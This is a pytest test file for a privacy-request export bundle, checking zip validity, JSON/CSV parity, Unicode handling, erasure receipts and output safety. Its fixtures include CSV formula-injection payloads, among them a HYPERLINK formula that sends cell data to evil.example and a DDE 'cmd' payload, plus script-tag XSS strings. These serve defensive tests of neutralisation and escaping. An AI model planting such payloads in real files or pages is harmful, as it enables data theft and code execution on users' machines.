"""The bundle: readable by zipfile and `unzip`, verifiable, JSON and CSV alike, safe to open."""

from __future__ import annotations

import concurrent.futures
import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from connectors.base import Attachment, Record
from discovery.bundle.archive import LocalStore, local_path
from discovery.bundle.build import BuiltBundle, BundleView, SystemPart, build_bundle, csv_field, neutralise
from discovery.bundle.staging import Staging
from discovery.bundle.verify import verify_bundle

REQUEST_ID = "0b7c1d2e-0000-4000-8000-000000000001"
PDF = b"%PDF-1.4\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
NASTY = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+47 912 34 567",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\tleading tab",
    "cr": "\rleading carriage return",
}


def users() -> Iterator[Record]:
    yield Record("users", "1", {"id": 1, "full_name": "Åse Ødegård-李", "email": "ase@example.no", "balance": -5,
                                "newsletter": True, "nick": "<script>alert(1)</script>", "note": None, **NASTY},
                 [Attachment("invoice-1.pdf", "application/pdf", lambda: iter([PDF[:1000], PDF[1000:]]))])
    yield Record("servers", "10", {"id": 10, "hostname": "åse.example.net", "plan": "green-2"})
    yield Record("servers", "11", {"id": 11, "hostname": "two.example.net", "plan": "=cmd|' /C calc'!A0"})


def messages() -> Iterator[Record]:
    for i in range(7):
        yield Record("messages", str(i), {"id": i, "parts": [{"text": f"hei {i} 🙂"}], "at": f"2024-01-0{i + 1}"})


def header(request_type: str, plan: list[dict[str, Any]]) -> dict[str, Any]:
    return {"request": {"id": REQUEST_ID, "type": request_type, "ticket": "T-1",
                        "received_at": "2024-05-01T10:00:00+00:00", "due_at": "2024-05-31T10:00:00+00:00"},
            "subject": {"identifiers": [{"type": "email", "value": "ase@example.no", "source": "request", "round": 0},
                                        {"type": "account_id", "value": "<b>1</b>", "source": "accounts",
                                         "round": 1}]},
            "generated_at": "2024-05-02T12:00:00+00:00", "plan": plan}


def step(system: str, entity: str, action: str = "export", reason: str = "Art. 15: a copy") -> dict[str, Any]:
    return {"system": system, "entity": entity, "action": action, "reason": reason,
            "task": None if action == "skip" else ("export" if action == "export" else "erase")}


VIEW = BundleView(
    controller={"name": "Example Green Cloud AS", "contact": "privacy@example.no",
                "supervisory_authority": "Datatilsynet", "supervisory_authority_url": "https://www.datatilsynet.no/"},
    systems={
        "accounts": {"title": "Customer accounts", "purpose": "To run your servers", "legal_basis": "Contract",
                     "retention": "While the account is active", "processors": [], "location": "Norway (EU/EEA)",
                     "source": "Provided by you", "holds": "E-mail, name",
                     "categories": {"users": ["contact", "identity"]}},
        "crm": {"title": '<script>alert("title")</script>CRM', "purpose": "Marketing", "processors": ["Vendor <AS>"],
                "location": "EU/EEA"},
    },
)


def build(tmp_path: Path, request_type: str = "access", view: BundleView = VIEW) -> tuple[Path, BuiltBundle]:
    staging = Staging(tmp_path / "staging")
    plan = [step("accounts", "users"), step("accounts", "servers"), step("chat", "messages"),
            step("crm", "contacts"), step("empty", "visits"),
            step("analytics", "*", "skip", "the person was not found in this system")]
    parts = [
        SystemPart("analytics", "skipped", reason="the person was not found in this system"),
        SystemPart("accounts", "done", "export", staged=staging.write(REQUEST_ID, "accounts", users()),
                   finished_at="2024-05-02T11:00:00+00:00"),
        SystemPart("chat", "done", "export", staged=staging.write(REQUEST_ID, "chat", messages())),
        SystemPart("crm", "failed", "export", reason="crm export: HTTP 503 from /contacts <script>x</script>"),
        SystemPart("empty", "done", "export", staged=staging.write(REQUEST_ID, "empty", iter(()))),
    ]
    store = LocalStore(tmp_path / "archive")
    with store.writer(f"{REQUEST_ID}.zip") as out:
        built = build_bundle(out, header(request_type, plan), parts, staging, view)
    return local_path(out.uri), built


@pytest.fixture
def bundle(tmp_path: Path) -> tuple[Path, BuiltBundle]:
    return build(tmp_path)


def read_csv(zf: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    raw = zf.read(name)
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def as_cell(value: Any) -> str:
    """What the JSON value looks like in CSV, before formula neutralisation."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def test_bundle_opens_with_zipfile_and_unzip_and_verifies(bundle: tuple[Path, BuiltBundle], tmp_path: Path) -> None:
    path, built = bundle
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        names = set(zf.namelist())
        manifest = orjson.loads(zf.read("manifest.json"))
    assert {"manifest.json", "index.html", "data/accounts/users.json", "data/accounts/users.csv",
            "data/accounts/servers.json", "data/accounts/servers.csv", "data/chat/messages.json",
            "files/accounts/users/invoice-1.pdf"} <= names
    assert manifest["format"] == "dsar-bundle/2" and manifest["request"]["id"] == REQUEST_ID
    assert set(manifest["files"]) == names - {"manifest.json"}
    assert built.size == path.stat().st_size and built.sha256 and built.counts["accounts.users"] == 1

    if not shutil.which("unzip"):
        pytest.skip("the unzip tool is not installed")
    assert subprocess.run(["unzip", "-tq", str(path)], capture_output=True).returncode == 0
    out = tmp_path / "unzipped"
    subprocess.run(["unzip", "-q", str(path), "-d", str(out)], check=True)
    assert (out / "files/accounts/users/invoice-1.pdf").read_bytes() == PDF
    assert verify_bundle(path).ok, verify_bundle(path).problems


def test_json_and_csv_hold_the_same_records(bundle: tuple[Path, BuiltBundle]) -> None:
    path, _ = bundle
    with zipfile.ZipFile(path) as zf:
        for entity in ("users", "servers"):
            records = orjson.loads(zf.read(f"data/accounts/{entity}.json"))
            rows = read_csv(zf, f"data/accounts/{entity}.csv")
            assert len(rows) == len(records) > 0
            for record, row in zip(records, rows, strict=True):
                assert list(row) == list(record)  # same columns, same order
                for key, value in record.items():
                    cell = row[key]
                    expected = as_cell(value)
                    assert cell == (neutralise(expected) if isinstance(value, str) else expected), key
                    assert cell.removeprefix("'") == expected or cell == expected


def test_csv_neutralises_formulas_and_json_keeps_them(bundle: tuple[Path, BuiltBundle]) -> None:
    path, _ = bundle
    with zipfile.ZipFile(path) as zf:
        row = read_csv(zf, "data/accounts/users.csv")[0]
        record = orjson.loads(zf.read("data/accounts/users.json"))[0]
        servers = read_csv(zf, "data/accounts/servers.csv")
    for key, value in NASTY.items():
        assert row[key] == "'" + value, key  # a spreadsheet shows it as text
        assert record[key] == value, key  # the JSON is untouched
    assert row["balance"] == "-5"  # a number is not a formula
    assert servers[1]["plan"] == "'=cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in servers for cell in r.values())


def test_unicode_survives_json_csv_and_page(bundle: tuple[Path, BuiltBundle]) -> None:
    path, _ = bundle
    with zipfile.ZipFile(path) as zf:
        assert orjson.loads(zf.read("data/accounts/users.json"))[0]["full_name"] == "Åse Ødegård-李"
        assert read_csv(zf, "data/accounts/users.csv")[0]["full_name"] == "Åse Ødegård-李"
        assert orjson.loads(zf.read("data/chat/messages.json"))[3]["parts"][0]["text"] == "hei 3 🙂"
        page = zf.read("index.html").decode("utf-8")
    assert "Åse Ødegård-李" in page and '<meta charset="utf-8">' in page


def test_nested_values_are_their_json_text_in_the_csv(bundle: tuple[Path, BuiltBundle]) -> None:
    with zipfile.ZipFile(bundle[0]) as zf:
        manifest = orjson.loads(zf.read("manifest.json"))
        rows = read_csv(zf, "data/chat/messages.csv")
        records = orjson.loads(zf.read("data/chat/messages.json"))
    messages = manifest["systems"]["chat"]["entities"]["messages"]
    assert messages["records"] == 7 and messages["csv"]["file"] == "data/chat/messages.csv"
    assert "csv_skipped" not in messages
    assert [orjson.loads(r["parts"]) for r in rows] == [r["parts"] for r in records]
    assert rows[3]["parts"] == '[{"text":"hei 3 🙂"}]'


def test_a_table_too_wide_to_read_is_json_only(tmp_path: Path) -> None:
    staging = Staging(tmp_path / "staging")
    wide = iter([Record("wide", "1", {f"c{i}": i for i in range(501)})])
    parts = [SystemPart("logs", "done", "export", staged=staging.write(REQUEST_ID, "logs", wide))]
    with LocalStore(tmp_path / "archive").writer(f"{REQUEST_ID}.zip") as out:
        built = build_bundle(out, header("access", [step("logs", "wide")]), parts, staging, VIEW)
    item = built.manifest["systems"]["logs"]["entities"]["wide"]
    assert item["records"] == 1 and item["csv"] is None and item["csv_skipped"] == "more than 500 columns: JSON only"


def test_failed_empty_and_skipped_systems_are_named_in_manifest_and_page(bundle: tuple[Path, BuiltBundle]) -> None:
    with zipfile.ZipFile(bundle[0]) as zf:
        manifest = orjson.loads(zf.read("manifest.json"))
        page = zf.read("index.html").decode()
    systems = manifest["systems"]
    assert systems["crm"]["status"] == "failed"
    assert systems["crm"]["reasons"] == ["crm export: HTTP 503 from /contacts <script>x</script>"]
    assert systems["crm"]["entities"]["contacts"]["status"] == "failed"
    assert "crm export: HTTP 503 from /contacts &lt;script&gt;x&lt;/script&gt;" in page
    assert systems["empty"]["status"] == "done" and systems["empty"]["entities"]["visits"]["records"] == 0
    assert not any(n.startswith("data/empty/") for n in manifest["files"])
    assert systems["analytics"]["status"] == "skipped"
    assert systems["analytics"]["reasons"] == ["the person was not found in this system"]
    assert manifest["totals"]["records"] == 1 + 2 + 7
    assert page.count("We hold no records about you in this system.") == 1  # the empty system only


def test_page_escapes_everything_and_loads_nothing(bundle: tuple[Path, BuiltBundle]) -> None:
    page = zipfile.ZipFile(bundle[0]).read("index.html").decode()
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the record value, shown as text
    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;CRM" in page  # the data map's title
    assert "&lt;b&gt;1&lt;/b&gt;" in page and "Vendor &lt;AS&gt;" in page
    assert "default-src 'none'" in page  # no scripts, no external assets, even if something slipped through
    for needle in ("<link", "src=", "@import", "url("):
        assert needle not in page


def test_page_tells_why_how_long_who_where_and_rights(bundle: tuple[Path, BuiltBundle]) -> None:
    page = zipfile.ZipFile(bundle[0]).read("index.html").decode()
    for text in ("Customer accounts", "To run your servers", "Contract", "While the account is active",
                 "Norway (EU/EEA)", "Provided by you", "contact, identity", "privacy@example.no", "Datatilsynet",
                 "https://www.datatilsynet.no/", "Rectification", "Erasure", "Restriction", "Objection",
                 "Portability", 'href="data/accounts/users.csv"'):
        assert text in page, text


def test_portability_keeps_only_the_marked_fields(tmp_path: Path) -> None:
    view = BundleView(controller=VIEW.controller, systems=VIEW.systems,
                      portable={"accounts": {"users": (frozenset({"id", "full_name", "email"}), ["balance"])}})
    path, _ = build(tmp_path, "portability", view)
    with zipfile.ZipFile(path) as zf:
        manifest = orjson.loads(zf.read("manifest.json"))
        record = orjson.loads(zf.read("data/accounts/users.json"))[0]
        row = read_csv(zf, "data/accounts/users.csv")[0]
    assert record == {"id": 1, "full_name": "Åse Ødegård-李", "email": "ase@example.no"}
    assert list(row) == ["id", "full_name", "email"]
    assert manifest["systems"]["accounts"]["entities"]["users"]["fields_left_out"] == ["balance"]
    # an entity without a marking keeps its fields
    assert orjson.loads(zipfile.ZipFile(path).read("data/accounts/servers.json"))[0]["hostname"] == "åse.example.net"


def test_erasure_bundle_holds_receipts_not_data(tmp_path: Path) -> None:
    staging = Staging(tmp_path / "staging")
    receipt = {"system": "accounts", "action": "erase", "changed": {"users": 1, "orders": 1},
               "details": ["masked users.email (hash)"], "vendor_refs": ["job-42"], "manual_steps": [],
               "held": [{"entity": "orders", "records": 2, "until": "2029-05-01T00:00:00+00:00",
                         "reason": "the Bookkeeping Act"}]}
    plan = [step("accounts", "users", "erase", "Art. 17: mask"), step("accounts", "orders", "restrict", "hold"),
            step("accounts", "orders", "erase", "past the hold")]
    parts = [SystemPart("accounts", "done", "erase", receipt=receipt, finished_at="2024-05-02T11:00:00+00:00",
                        confirmations=[{"at": "2024-05-02T11:30:00+00:00", "note": "checked by hand"}])]
    with LocalStore(tmp_path / "archive").writer("e.zip") as out:
        build_bundle(out, header("erasure", plan), parts, staging, VIEW)
    path = local_path(out.uri)
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        body = orjson.loads(zf.read("receipts/accounts-erase.json"))
        manifest = orjson.loads(zf.read("manifest.json"))
        page = zf.read("index.html").decode()
    assert not any(n.startswith("data/") for n in names)
    assert body["finished_at"] == "2024-05-02T11:00:00+00:00" and body["vendor_refs"] == ["job-42"]
    assert body["held"][0]["until"].startswith("2029-05-01") and body["confirmations"][0]["note"] == "checked by hand"
    orders = manifest["systems"]["accounts"]["entities"]["orders"]
    assert [s["action"] for s in orders["steps"]] == ["restrict", "erase"] and orders["held"][0]["records"] == 2
    for text in ("record of how we erased", "job-42", "1 May 2029", "the Bookkeeping Act", "checked by hand",
                 "<th>Records changed</th>", "<td>2</td></tr>"):  # users 1 + orders 1 changed
        assert text in page, text
    assert verify_bundle(path).ok


def test_a_failure_while_writing_leaves_no_bundle(tmp_path: Path) -> None:
    staging = Staging(tmp_path / "staging")
    staged = staging.write(REQUEST_ID, "accounts", users())
    (staging.task_dir(REQUEST_ID, "accounts") / "servers.jsonl").unlink()  # staging lost under our feet
    store = LocalStore(tmp_path / "archive")
    with pytest.raises(FileNotFoundError), store.writer("x.zip") as out:
        build_bundle(out, header("access", []), [SystemPart("accounts", "done", "export", staged=staged)], staging)
    assert list((tmp_path / "archive").iterdir()) == []


def test_a_small_bundle_is_deflated_in_the_calling_thread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Members under one piece (nearly every bundle) hand nothing to the compressor's threads: no pool is made and no
    thread is started for a bundle of a few KiB, and the bundle is as valid as ever."""
    handed: list[Any] = []
    made: list[Any] = []
    submit, init = concurrent.futures.ThreadPoolExecutor.submit, concurrent.futures.ThreadPoolExecutor.__init__
    monkeypatch.setattr(concurrent.futures.ThreadPoolExecutor, "submit",
                        lambda pool, *a, **k: handed.append(a) or submit(pool, *a, **k))
    monkeypatch.setattr(concurrent.futures.ThreadPoolExecutor, "__init__",
                        lambda pool, *a, **k: made.append(a) or init(pool, *a, **k))
    staging = Staging(tmp_path / "staging")
    staged = staging.write(REQUEST_ID, "accounts", users())
    with LocalStore(tmp_path / "archive").writer("small.zip") as out:
        build_bundle(out, header("access", [step("accounts", "users")]),
                     [SystemPart("accounts", "done", "export", staged=staged)], staging)
    assert handed == [] and made == []
    assert verify_bundle(local_path(out.uri)).ok


def test_a_large_entity_round_trips_through_the_parallel_compressor(tmp_path: Path) -> None:
    """Several MiB per member: compressed in pieces on every core, still one valid deflate stream per entry."""
    staging = Staging(tmp_path / "staging")
    texts = [f"message {i}: " + "vær så snill, " * (i % 50) + str(i * 7919) for i in range(30_000)]
    staged = staging.write(REQUEST_ID, "chat", (Record("log", str(i), {"i": i, "text": t})
                                                 for i, t in enumerate(texts)))
    part = SystemPart("chat", "done", "export", staged=staged)
    with LocalStore(tmp_path / "archive").writer("big.zip") as out:
        build_bundle(out, header("access", [step("chat", "log")]), [part], staging)
    path = local_path(out.uri)
    with zipfile.ZipFile(path) as zf:
        assert zf.getinfo("data/chat/log.json").file_size > 4 * 1024 * 1024
        assert [r["text"] for r in orjson.loads(zf.read("data/chat/log.json"))] == texts
        assert [r["text"] for r in read_csv(zf, "data/chat/log.csv")] == texts
    assert verify_bundle(path).ok
    if shutil.which("unzip"):
        piped = subprocess.run(["unzip", "-p", str(path), "data/chat/log.json"], capture_output=True, check=True)
        assert [r["text"] for r in orjson.loads(piped.stdout)] == texts


@pytest.mark.parametrize("text", ["", "plain", 'say "hi"', "a,b", "line\nbreak", "cr\rhere", " lead", "trail ",
                                  '"', ",", "\r\n", "æøå, 李", "'quoted'", "tab\tinside"])
def test_csv_fields_are_quoted_like_the_csv_module(text: str) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow(["x", text])
    assert "x," + csv_field(text) + "\r\n" == buf.getvalue()
    assert next(csv.reader(io.StringIO("x," + csv_field(text) + "\r\n", newline=""))) == ["x", text]
